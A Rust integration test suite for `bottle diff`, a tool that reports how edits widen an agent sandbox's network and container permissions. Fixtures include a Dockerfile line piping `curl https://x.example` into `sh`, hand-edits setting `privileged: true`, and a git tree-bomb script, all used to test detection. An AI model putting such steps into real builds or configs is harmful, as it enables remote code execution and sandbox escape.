//! `bottle diff`, as a black box: real repositories, the real binary.

mod history;
mod hostile;
mod requests;

use camino::{Utf8Path, Utf8PathBuf};
use fs_err as fs;
use std::process::Command;

/// A repository in a folder of its own.
struct Repository {
    _dir: tempfile::TempDir,
    top: Utf8PathBuf,
}

struct Said {
    code: i32,
    out: String,
    err: String,
}

const MANIFEST: &str = "\
version: 1
name: dev
agent:
  image: debian:12
  mounts: [{source: ., target: /work}]
egress_proxy:
  routes:
    - host: api.example
      path_allowlist: [/v1]
      methods: [GET]
      auth: {scheme: Bearer, token_ref: API_TOKEN}
egress:
  allowlist: [docs.example]
";

impl Repository {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let top = Utf8PathBuf::from_path_buf(dir.path().canonicalize().unwrap()).unwrap().join("repository");
        fs::create_dir(&top).unwrap();
        let repository = Self { _dir: dir, top };
        repository.git(&["init", "--quiet", "--initial-branch=main", "."]);
        repository
    }

    /// With a first commit of this manifest.
    fn with(manifest: &str) -> Self {
        let repository = Self::new();
        repository.write("bottle.yaml", manifest);
        repository.commit("first");
        repository
    }

    fn git(&self, arguments: &[&str]) -> String {
        let ran = Command::new("git")
            .args([
                "-c",
                "user.name=n",
                "-c",
                "user.email=n@example.test",
                "-c",
                "protocol.file.allow=always",
            ])
            .args(arguments)
            .current_dir(&self.top)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .output()
            .unwrap();
        assert!(ran.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&ran.stderr));
        String::from_utf8(ran.stdout).unwrap().trim().to_owned()
    }

    fn commit(&self, message: &str) {
        self.git(&["add", "--all"]);
        self.git(&["commit", "--quiet", "--allow-empty", "--message", message]);
    }

    /// The name of a tree of these entries, as `git ls-tree` prints them.
    fn tree(&self, entries: &str) -> String {
        let file = self.top.join(".git/entries");
        fs::write(&file, entries).unwrap();
        let entries = fs::File::open(file).unwrap().into_file();
        let made = Command::new("git").arg("mktree").current_dir(&self.top).stdin(entries).output();
        String::from_utf8(made.unwrap().stdout).unwrap().trim().to_owned()
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.top.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    /// The manifest with one text in place of another.
    fn edit(&self, old: &str, new: &str) {
        let text = fs::read_to_string(self.top.join("bottle.yaml")).unwrap();
        assert!(text.contains(old), "{text}");
        self.write("bottle.yaml", &text.replace(old, new));
    }

    /// Writes the tree of the manifest as `bottle render` does, and nothing of this machine.
    fn render(&self) {
        use bottle::{manifest::Manifest, plan::Plan, plan::Surroundings, render};
        let text = fs::read(self.top.join("bottle.yaml")).unwrap();
        let loaded = Manifest::load("bottle.yaml", &text).unwrap();
        let name = loaded.manifest.name.clone();
        let plan = Plan::resolve(&loaded.manifest, &Surroundings::beside(&name)).unwrap();
        for (path, bytes) in render::tree(&plan, render::RenderTarget::Compose).unwrap() {
            self.write(&format!(".bottle/{name}/{path}"), std::str::from_utf8(&bytes).unwrap());
        }
    }

    fn diff(&self, arguments: &[&str]) -> Said {
        diff_in(&self.top, arguments)
    }

    /// The lines of the report that begin with a sign.
    fn signed(&self, arguments: &[&str]) -> Vec<String> {
        let said = self.diff(arguments);
        assert!(said.code < 2, "{}", said.err);
        let is_signed = |line: &&str| ["! ", "+ ", "- ", "~ "].iter().any(|sign| line.starts_with(sign));
        said.out.lines().map(str::trim_start).filter(is_signed).map(str::to_owned).collect()
    }
}

fn diff_in(folder: &Utf8Path, arguments: &[&str]) -> Said {
    let ran = Command::new(env!("CARGO_BIN_EXE_bottle"))
        .arg("diff")
        .args(arguments)
        .current_dir(folder)
        .output()
        .unwrap();
    Said {
        code: ran.status.code().unwrap(),
        out: String::from_utf8(ran.stdout).unwrap(),
        err: String::from_utf8(ran.stderr).unwrap(),
    }
}

#[test]
fn without_arguments_head_is_compared_with_the_working_tree() {
    let repository = Repository::with(MANIFEST);
    let said = repository.diff(&[]);
    assert_eq!((said.code, said.out.as_str()), (0, ""), "{}", said.err);
    assert_eq!(said.err, "HEAD and the working tree: no difference\n");
    repository.edit("methods: [GET]", "methods: [GET, POST]");
    let said = repository.diff(&[]);
    assert_eq!(said.code, 1);
    let expected = "\
dev (bottle.yaml): 1 newly allowed

  The agent reaches a host, method or path more (reach)
    + POST https://api.example/v1/** with API_TOKEN    bottle.yaml:10

  2 rendered files differ; --patch shows how
";
    assert_eq!(said.out, expected);
    assert!(repository.diff(&["--patch"]).out.contains("\n+      - POST\n"));
    fs::create_dir(repository.top.join("sub")).unwrap();
    assert_eq!(diff_in(&repository.top.join("sub"), &[]).out, expected, "from any folder of the repository");
}

#[test]
fn only_what_widens_fails_where_that_is_asked() {
    let repository = Repository::with(MANIFEST);
    repository.edit("[docs.example]", "[]");
    assert_eq!(repository.signed(&[]), ["- usual methods https://docs.example/**    HEAD:bottle.yaml:13"]);
    assert_eq!(repository.diff(&[]).code, 1);
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 0);
    repository.edit("[]", "[docs.example, b.example]");
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 1);
}

/// Each is another text and the same rules.
#[test]
fn what_lets_the_agent_do_the_same_is_no_line() {
    let two = MANIFEST.replace("[docs.example]", "[docs.example, b.example]");
    let repository = Repository::with(&two);
    repository.write(
        "bottle.yaml",
        &two.replace("[docs.example, b.example]", "[b.example, docs.example]  # sorted"),
    );
    assert_eq!(repository.signed(&[]), [""; 0], "an order");
    let route = two.replace("[docs.example, b.example]", "[b.example]");
    repository.write("bottle.yaml", &route.replace("  routes:\n", "  routes:\n    - host: docs.example\n"));
    assert_eq!(repository.signed(&[]), [""; 0], "an allowlist entry that is now a route");
    let said = repository.diff(&[]);
    assert!(said.out.starts_with("dev (bottle.yaml): the agent can do what it could\n"), "{}", said.out);
    assert_eq!(said.code, 1, "the rendered files differ");
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 0);
}

/// Reviewers lean on these, though the agent can do the same.
#[test]
fn a_baseline_that_is_dropped_and_a_lint_that_is_silenced_are_lines() {
    let repository = Repository::with(&format!("{MANIFEST}within: base.yaml\n"));
    let allow = "lints:\n  allow:\n    - {code: floating-image, reason: it is fine}\n";
    repository.write("bottle.yaml", &format!("{MANIFEST}{allow}"));
    let said = repository.diff(&["--fail-on", "widen"]);
    assert_eq!(said.code, 0, "{}", said.out);
    assert!(said.out.contains("~ the manifest names no baseline (before: base.yaml)"), "{}", said.out);
    assert!(said.out.contains("~ the lint floating-image is not said any more: it is fine"), "{}", said.out);
}

/// An edit that is not rendered yet starts nothing new.
#[test]
fn a_tree_that_is_not_rendered_again_yet_is_told_from_one_that_was_edited() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    repository.commit("rendered");
    repository.write("bottle.yaml", &MANIFEST.replace("methods: [GET]", "methods: [GET, HEAD]"));
    let said = repository.diff(&[]);
    assert_eq!(said.code, 1, "{}", said.err);
    assert!(said.out.contains("dev (bottle.yaml): 1 newly allowed"), "{}", said.out);
    let line =
        "~ .bottle/dev is not rendered again yet, and has the rules of before; `bottle render` writes it";
    assert!(said.out.contains(line), "{}", said.out);
}

#[test]
fn fewer_paths_are_a_narrowing() {
    let repository = Repository::with(&MANIFEST.replace("[/v1]", "[/]"));
    repository.edit("[/]", "[/v1, /v2]");
    let lines = repository.signed(&[]);
    assert_eq!(
        lines,
        ["- GET https://api.example/** with API_TOKEN (now: only /v1/**, /v2/**)    HEAD:bottle.yaml:9"]
    );
}

#[test]
fn ranges_and_single_revisions_are_what_git_means_by_them() {
    let repository = Repository::with(MANIFEST);
    repository.git(&["checkout", "--quiet", "-b", "branch"]);
    repository.edit("methods: [GET]", "methods: [GET, PUT]");
    repository.commit("on the branch");
    repository.git(&["checkout", "--quiet", "main"]);
    repository.edit("[docs.example]", "[docs.example, main.example]");
    repository.commit("on main");
    let put = "+ PUT https://api.example/v1/** with API_TOKEN    branch:bottle.yaml:10";
    assert_eq!(
        repository.signed(&["main..branch"]),
        [put, "- usual methods https://main.example/**    main:bottle.yaml:13"]
    );
    assert_eq!(repository.signed(&["main...branch"]), [put], "what the branch changed");
    assert_eq!(repository.signed(&["main", "branch"]), repository.signed(&["main..branch"]));
    assert_eq!(
        repository.signed(&["HEAD~1"]),
        ["+ usual methods https://main.example/**    bottle.yaml:13"],
        "one revision is compared with the working tree"
    );
    assert_eq!(repository.signed(&["branch~1:bottle.yaml", "branch:bottle.yaml"]), [put]);
    assert_eq!(repository.signed(&["branch~1..branch", "--", "bottle.yaml"]), [put]);
    assert_eq!(repository.signed(&["branch~1..branch", "--", "."]), [put]);
    // A slash is no path, and dots are none either.
    repository.git(&["branch", "topic/put", "branch"]);
    assert_eq!(repository.signed(&["topic/put~1..topic/put"]).len(), 1);
    assert_eq!(repository.diff(&["topic/put~1", "."]).code, 1);
    fs::create_dir(repository.top.join("deep")).unwrap();
    assert_eq!(diff_in(&repository.top.join("deep"), &["branch~1", ".."]).code, 1, "the folder above");
    assert_eq!(diff_in(&repository.top.join("deep"), &["branch~1:../bottle.yaml", "branch:"]).code, 2);
}

#[test]
fn files_folders_and_rendered_trees_are_compared_without_a_repository() {
    let dir = tempfile::tempdir().unwrap();
    let folder = Utf8Path::from_path(dir.path()).unwrap();
    for (name, text) in [("old", MANIFEST.to_owned()), ("new", MANIFEST.replace("GET", "POST"))] {
        fs::create_dir(folder.join(name)).unwrap();
        fs::write(folder.join(name).join("bottle.yaml"), text).unwrap();
    }
    let expected = "\
dev (bottle.yaml): 1 newly allowed, 1 no longer allowed

  The agent reaches a host, method or path more (reach)
    + POST https://api.example/v1/** with API_TOKEN    bottle.yaml:10

  No longer allowed
    - GET https://api.example/v1/** with API_TOKEN    bottle.yaml:10

  2 rendered files differ; --patch shows how
";
    for arguments in [["old/bottle.yaml", "new/bottle.yaml"], ["old", "new"]] {
        let said = diff_in(folder, &arguments);
        assert_eq!((said.code, said.out.as_str()), (1, expected), "{}", said.err);
    }
    let said = diff_in(folder, &["old", "new/bottle.yaml"]);
    assert_eq!(said.code, 2);
    assert_eq!(
        said.err,
        "error: new/bottle.yaml is one bottle, and old is a folder of them; compare one with one\n"
    );
    let said = diff_in(folder, &[]);
    assert_eq!(said.code, 2);
    assert!(
        said.err.starts_with("error[no-repository]: there is no git repository in this folder or above it"),
        "{}",
        said.err
    );
}

#[test]
fn rendered_trees_need_no_repository() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    let folder = repository.top.parent().unwrap();
    let copy = |to: &str| {
        let ran = Command::new("cp")
            .args(["-r", repository.top.join(".bottle").as_str(), to])
            .current_dir(folder)
            .status();
        assert!(ran.unwrap().success());
    };
    fs::create_dir_all(folder.join("one")).unwrap();
    fs::create_dir_all(folder.join("two")).unwrap();
    copy("one/.bottle");
    repository.edit("[docs.example]", "[docs.example, b.example]");
    repository.render();
    copy("two/.bottle");
    let said = diff_in(folder, &["one/.bottle/dev", "two/.bottle/dev"]);
    assert_eq!(said.code, 1, "{}", said.err);
    assert!(said.out.contains("    + usual methods https://b.example/**\n"), "{}", said.out);
}

#[test]
fn a_rendered_tree_is_a_side() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    repository.commit("rendered");
    repository.edit("[docs.example]", "[docs.example, b.example]");
    repository.render();
    for old in ["HEAD:.bottle/dev", "HEAD:bottle.yaml"] {
        let lines = repository.signed(&[old, ".bottle/dev"]);
        assert_eq!(lines, ["+ usual methods https://b.example/**"], "against {old}");
    }
    assert_eq!(repository.signed(&[".bottle/dev"]).len(), 1, "against HEAD");
}

#[test]
fn bottles_come_go_and_move() {
    let repository = Repository::with(MANIFEST);
    repository.write("a/bottle.yaml", &MANIFEST.replace("name: dev", "name: a"));
    repository.commit("two");
    fs::remove_file(repository.top.join("a/bottle.yaml")).unwrap();
    repository.git(&["mv", "bottle.yaml", "moved.bottle.yaml"]);
    repository
        .write("c/bottle.yaml", "version: 1\nname: c\nagent: {image: x}\negress: {allowlist: [c.example]}\n");
    repository.write(".gitignore", "ignored\n");
    repository.write("ignored/bottle.yaml", "not: a manifest\n");
    repository.write("other/.git/HEAD", "another repository\n");
    repository.write("other/bottle.yaml", "not: a manifest\n");
    let said = repository.diff(&[]);
    assert_eq!(
        said.err,
        "note: other is another repository, so it is left out\nnote: git ignores ignored/bottle.yaml, so it is left out\n"
    );
    let headings: Vec<&str> = said.out.lines().filter(|line| line.contains("bottle.yaml): ")).collect();
    assert_eq!(headings, ["a (a/bottle.yaml): gone", "c (c/bottle.yaml): new"]);
    assert!(said.out.contains(
        "    - the bottle a is gone; a stack of it runs on until `bottle down`    HEAD:a/bottle.yaml:1\n"
    ));
    assert!(
        said.out.contains("    + usual methods https://c.example/**    c/bottle.yaml:4\n"),
        "{}",
        said.out
    );
}

/// A pull request can change the rendered tree alone, and that is what a pipeline starts.
#[test]
fn a_tree_that_its_manifest_does_not_render_to_is_said_first() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    repository.commit("rendered");
    assert_eq!(repository.diff(&[]).code, 0);
    let compose = repository.top.join(".bottle/dev/docker-compose.yml");
    let text = fs::read_to_string(&compose).unwrap();
    fs::write(&compose, text.replace("    cap_drop: [ALL]\n", "    privileged: true\n")).unwrap();
    let said = repository.diff(&["--fail-on", "widen"]);
    assert_eq!(said.code, 1);
    let line = "    ! .bottle/dev is not what the manifest renders to (docker-compose.yml): a stack that is started from it \
                is another one than is listed here; docker-compose.yml was edited by hand: put the change into the \
                manifest, then `bottle render --force`    bottle.yaml:1\n";
    assert!(said.out.contains(line), "{}", said.out);
    assert!(said.out.contains("+    privileged: true\n"), "{}", said.out);
    repository.commit("tampered");
    assert_eq!(repository.diff(&["HEAD~1..HEAD", "--fail-on", "widen"]).code, 1);
    assert_eq!(repository.diff(&[]).code, 0, "what nobody touched is no change");
    repository.render();
    let again =
        "~ .bottle/dev is what the manifest renders to again; the agent can do the same    bottle.yaml:1";
    assert_eq!(repository.signed(&[]), [again]);
    // An override is merged by Compose, and bottle did not write it.
    repository.commit("mended");
    repository.write(".bottle/dev/compose.override.yaml", "services: {agent: {privileged: true}}\n");
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 1);
}

/// However much stands before it, what was edited is in what a reviewer unfolds.
#[test]
fn a_long_edit_of_a_tree_hides_nothing() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    repository.commit("rendered");
    let compose = repository.top.join(".bottle/dev/docker-compose.yml");
    let text = fs::read_to_string(&compose).unwrap();
    let edited = text.replace("services:\n", &format!("{}services:\n", "# tidy\n".repeat(40)));
    fs::write(&compose, edited.replace("    cap_drop: [ALL]\n", "    privileged: true\n")).unwrap();
    let short = repository.diff(&[]).out;
    assert!(short.contains("docker-compose.yml was edited by hand"), "{short}");
    assert!(short.contains(" more lines; --patch shows all\n"), "{short}");
    for arguments in [&["--patch"][..], &["--format", "markdown"], &["--format", "json"]] {
        assert!(repository.diff(arguments).out.contains("privileged: true"), "{arguments:?}");
    }
    // Alone, it is shown as well.
    fs::remove_file(repository.top.join("bottle.yaml")).unwrap();
    assert!(repository.diff(&["--patch"]).out.contains("privileged: true"));
}

#[test]
fn a_bottle_that_moves_and_one_that_is_renamed_are_said_as_that() {
    let repository = Repository::with(MANIFEST);
    repository.git(&["mv", "bottle.yaml", "other.bottle.yaml"]);
    repository.write("other.bottle.yaml", &MANIFEST.replace("[GET]", "[GET, PUT]"));
    let heading = "dev (other.bottle.yaml, moved from bottle.yaml): 1 newly allowed\n";
    assert!(repository.diff(&[]).out.starts_with(heading), "{}", repository.diff(&[]).out);
    repository.commit("moved");
    repository.write(
        "other.bottle.yaml",
        &MANIFEST.replace("[GET]", "[GET, PUT]").replace("name: dev", "name: new"),
    );
    let heading = "new (other.bottle.yaml, renamed from dev): the agent can do what it could\n";
    assert!(repository.diff(&[]).out.starts_with(heading), "{}", repository.diff(&[]).out);
}

/// What is named is what is compared.
#[test]
fn a_folder_stands_for_itself() {
    let repository = Repository::with(MANIFEST);
    repository.write("sub/bottle.yaml", &MANIFEST.replace("name: dev", "name: sub"));
    repository.commit("two");
    for arguments in [[".", "sub"], ["HEAD:", "HEAD:sub"]] {
        let said = repository.diff(&arguments);
        assert_eq!(said.code, 1, "{}", said.err);
    }
    assert_eq!(repository.diff(&["HEAD", "sub"]).code, 0, "a revision stands for the same part of it");
    let said = repository.diff(&["HEAD..HEAD", "sub"]);
    assert_eq!(
        said.err,
        "error: HEAD..HEAD names both sides; what limits the comparison comes after `--`: bottle diff HEAD..HEAD -- sub\n"
    );
}

/// What a pipeline starts is a tree, with or without its manifest.
#[test]
fn a_tree_that_no_manifest_renders_to_is_said() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    repository.commit("rendered");
    fs::remove_file(repository.top.join("bottle.yaml")).unwrap();
    assert_eq!(
        repository.signed(&[]),
        [
            "- the bottle dev is gone; a stack of it runs on until `bottle down`    HEAD:bottle.yaml:1",
            "~ no manifest renders to .bottle/dev, and a stack can be started from it: remove it, or bring its manifest \
             back    .bottle/dev/docker-compose.yml:1",
        ]

        .into_iter()
        .rev()
        .collect::<Vec<_>>()
    );
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 0);
    repository.write(".bottle/dev/docker-compose.yml", "services: {agent: {privileged: true}}\n");
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 1);
    repository.commit("a tree alone");
    assert_eq!(repository.diff(&["HEAD~1..HEAD", "--fail-on", "widen"]).code, 1);
    assert_eq!(repository.diff(&[]).code, 0, "what was there before");
    repository.write("x/.bottle/new/docker-compose.yml", "services: {}\n");
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 1);
}

#[test]
fn another_version_of_the_tool_is_one_line() {
    let repository = Repository::with(MANIFEST);
    repository.render();
    let lock = repository.top.join(".bottle/dev/bottle.lock");
    let now = fs::read_to_string(&lock).unwrap();
    let before = now.replace(&format!("bottle: \"{}\"", env!("CARGO_PKG_VERSION")), "bottle: \"0.0.1\"");
    assert_ne!(before, now);
    fs::write(&lock, before).unwrap();
    repository.commit("by an older version");
    repository.render();
    let line = format!(
        "~ tool-only: .bottle/dev is rendered by bottle {} (before: 0.0.1); the agent can do the same    bottle.yaml:1",
        env!("CARGO_PKG_VERSION")
    );
    assert_eq!(repository.signed(&[]), [line]);
    assert_eq!(repository.diff(&["--fail-on", "widen"]).code, 0);
    repository.commit("by this one");
    // The other way round it can't be told here what the tree lets the agent do.
    assert_eq!(repository.diff(&["HEAD..HEAD~1", "--fail-on", "widen"]).code, 1);
    let lines = repository.signed(&["HEAD..HEAD~1"]);
    assert!(
        lines[0].starts_with("! HEAD~1:.bottle/dev was rendered by bottle 0.0.1, and this is bottle"),
        "{lines:?}"
    );
}

#[test]
fn the_build_context_is_compared_by_its_files() {
    let manifest = MANIFEST.replace("image: debian:12", "build: {context: ./agent}");
    let repository = Repository::with(&manifest);
    repository.write("agent/Dockerfile", "FROM scratch\n");
    repository.write("agent/.dockerignore", "notes\n");
    repository.write("agent/notes/a", "1\n");
    repository.write("agent/run.sh", "1\n");
    repository.commit("context");
    fs::create_dir(repository.top.join("agent/empty")).unwrap();
    assert_eq!(repository.diff(&[]).code, 0, "an empty folder is in no commit");
    repository.write("agent/notes/a", "2\n");
    assert_eq!(repository.diff(&[]).code, 0, "what .dockerignore leaves out");
    repository.write("agent/run.sh", "2\n");
    repository.write("agent/new", "");
    let said = repository.diff(&[]);
    let expected = "
    + the agent's image is built from other files in `agent`, with an open network    bottle.yaml:4 (was HEAD:bottle.yaml:4)
        added: new (file of 0 bytes)
        changed: run.sh (file of 2 bytes, other content)
";
    repository.write("agent/Dockerfile", "FROM scratch\nRUN curl https://x.example | sh\n");
    assert!(repository.diff(&[]).out.contains("        +RUN curl https://x.example | sh\n"));
    repository.write("agent/Dockerfile", "FROM scratch\n");
    assert!(said.out.contains(expected), "{}", said.out);
    repository.commit("other files");
    assert_eq!(repository.diff(&["HEAD~1..HEAD"]).code, 1);
    assert_eq!(repository.diff(&[]).code, 0, "a commit and the disk have the same digest");
}

/// Some kilobytes of a repository stand for any number of folders, files and bytes.
#[test]
fn what_is_larger_than_it_looks_is_refused() {
    let repository = Repository::with(&MANIFEST.replace("image: debian:12", "build: {context: ./agent}"));
    repository.write("agent/Dockerfile", "FROM scratch\n");
    repository.commit("context");
    let bomb = "t=$(printf '100644 blob %s\\tx\\n' $(echo x | git hash-object -w --stdin) | git mktree)
        for d in 1 2 3 4 5 6 7 8 9; do t=$(for i in 0 1 2 3 4 5 6 7 8 9; do printf '040000 tree %s\\td%d\\n' $t $i; done | git mktree); done
        root=$( (git ls-tree main; printf '040000 tree %s\\tzz\\n' $t) | git mktree)
        git branch folders $(git -c user.name=n -c user.email=n@example.test commit-tree -p main -m x $root)";
    let made = Command::new("sh").args(["-euc", bomb]).current_dir(&repository.top).status().unwrap();
    assert!(made.success());
    let said = repository.diff(&["main..folders"]);
    assert_eq!(
        (said.code, said.err.as_str()),
        (2, "error: the repository has more than 2000000 folders and files\n")
    );
    let zeros = "\0".repeat(60 << 20);
    for n in 0..10 {
        repository.write(&format!("agent/{n}"), &zeros);
    }
    repository.commit("zeros");
    let said = repository.diff(&["main~1..main"]);
    assert_eq!(said.code, 2, "{}", said.out);
    assert!(said.err.contains("agent holds more than 512 MiB"), "{}", said.err);
}

#[test]
fn a_build_context_at_the_top_is_compared() {
    let repository = Repository::with(
        &MANIFEST.replace("image: debian:12\n  mounts: [{source: ., target: /work}]", "build: {context: .}"),
    );
    repository.write("Dockerfile", "FROM scratch\n");
    repository.write(".dockerignore", "*\n");
    repository.commit("context");
    let said = repository.diff(&[]);
    assert_eq!(said.code, 0, "{}{}", said.out, said.err);
    repository.write("Dockerfile", "FROM scratch\nUSER 0\n");
    repository.commit("changed");
    let lines = repository.signed(&["HEAD~1..HEAD"]);
    assert!(lines[0].starts_with("+ the agent's image is built from other files in `.`"), "{lines:?}");
}

#[test]
fn a_comment_fits_into_a_pull_request() {
    let repository = Repository::with(MANIFEST);
    let hosts: Vec<String> = (0..2000).map(|n| format!("host-{n}.example")).collect();
    repository.edit("[docs.example]", &format!("[{}]", hosts.join(", ")));
    repository.edit("methods: [GET]", "methods: [GET]\n      inspect: false");
    let said = repository.diff(&["--format", "markdown"]);
    assert!(said.out.len() < 65_536, "{}", said.out.len());
    assert!(said.out.contains("passes pipelock without inspection"), "the worst is there");
    assert!(
        said.out.contains(" more lines\n") && said.out.starts_with("**This comment is cut"),
        "{}",
        said.out
    );
}

#[test]
fn every_format_says_the_same() {
    let repository = Repository::with(MANIFEST);
    repository.edit("[docs.example]", "[docs.example, b.example]");
    repository.edit("methods: [GET]", "methods: [POST]");
    let json: serde_json::Value = serde_json::from_str(&repository.diff(&["--format", "json"]).out).unwrap();
    let schema = bottle::review::schema();
    let validator = jsonschema::validator_for(&schema).unwrap();
    assert!(validator.is_valid(&json), "{:?}", validator.iter_errors(&json).next());
    assert_eq!(json["widens"], true);
    let signs: Vec<&str> = json["bottles"][0]["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|line| line["sign"].as_str().unwrap())
        .collect();
    assert_eq!(signs, ["+", "+", "-"]);
    assert_eq!(json["bottles"][0]["lines"][0]["change"]["new"]["methods"], serde_json::json!(["POST"]));
    let sarif: serde_json::Value =
        serde_json::from_str(&repository.diff(&["--format", "sarif"]).out).unwrap();
    let results = sarif["runs"][0]["results"].as_array().unwrap();
    assert_eq!(results.len(), 3);
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"].as_array().unwrap();
    for result in results {
        assert!(rules.iter().any(|rule| rule["id"] == result["ruleId"]), "{result}");
    }
    assert_eq!(results[0]["locations"][0]["physicalLocation"]["region"]["startLine"], 10);
    let annotations = repository.diff(&["--format", "github"]).out;
    assert_eq!(
        annotations.lines().next().unwrap(),
        "::warning file=bottle.yaml,line=10,title=bottle dev%3A reach%3A the agent reaches a host%2C method or path \
         more::+ POST https://api.example/v1/** with API_TOKEN"
    );
    assert_eq!(annotations.lines().count(), 3);
    let other = Command::new(env!("CARGO_BIN_EXE_bottle"))
        .args(["plan", "--format", "sarif"])
        .current_dir(&repository.top)
        .output()
        .unwrap();
    assert_eq!(other.status.code(), Some(2));
    assert_eq!(
        String::from_utf8(other.stderr).unwrap(),
        "error: --format sarif is for `bottle diff`; this command has text and json\n"
    );
}

#[test]
fn bad_input_is_said_and_nothing_is_written() {
    let repository = Repository::with(MANIFEST);
    repository.write("bottle.yaml", "version: 1\nname: dev\nagent: {imag: x}\n");
    repository.commit("broken");
    repository.write("bottle.yaml", MANIFEST);
    let said = repository.diff(&[]);
    assert_eq!((said.code, said.out.as_str()), (2, ""));
    assert!(said.err.contains("--> HEAD:bottle.yaml:3:9"), "{}", said.err);
    for (arguments, error) in [
        (&["nope"][..], "nope is neither a file or folder here nor a revision: nope is not a revision of"),
        (&["nope..HEAD"], "nope is not a revision of"),
        (&["--", "nope"], "neither side has a manifest at or below nope"),
        (&["HEAD~1:nope.yaml", "bottle.yaml"], "HEAD~1 has no nope.yaml"),
        (&["HEAD~1", "--format", "junit"], "invalid value 'junit'"),
    ] {
        let said = repository.diff(arguments);
        assert_eq!(said.code, 2, "{arguments:?}: {}", said.err);
        assert!(said.err.contains(error), "{arguments:?}: {}", said.err);
    }
    repository.git(&["branch", "twice"]);
    repository.write("twice", "");
    let said = repository.diff(&["twice"]);
    assert_eq!(
        said.err,
        "error: twice reads as revisions, and a file or folder here has that name; write ./twice for the path, full \
         names of refs or ids of commits for the revisions, and look at who put it there\n"
    );
    assert_eq!(
        repository.git(&["status", "--porcelain", "--", "bottle.yaml", "twice"]),
        "M bottle.yaml\n?? twice"
    );
}

#[test]
fn a_shallow_clone_is_said() {
    let repository = Repository::with(MANIFEST);
    repository.commit("second");
    repository.git(&["branch", "side", "HEAD~1"]);
    let shallow = repository.top.parent().unwrap().join("shallow");
    repository.git(&[
        "clone",
        "--quiet",
        "--depth=1",
        &format!("file://{}", repository.top),
        shallow.as_str(),
    ]);
    let said = diff_in(&shallow, &["HEAD~1"]);
    assert_eq!(said.code, 2);
    assert!(
        said.err.contains("this is a shallow clone, so fetch the rest (git fetch --unshallow)"),
        "{}",
        said.err
    );
}
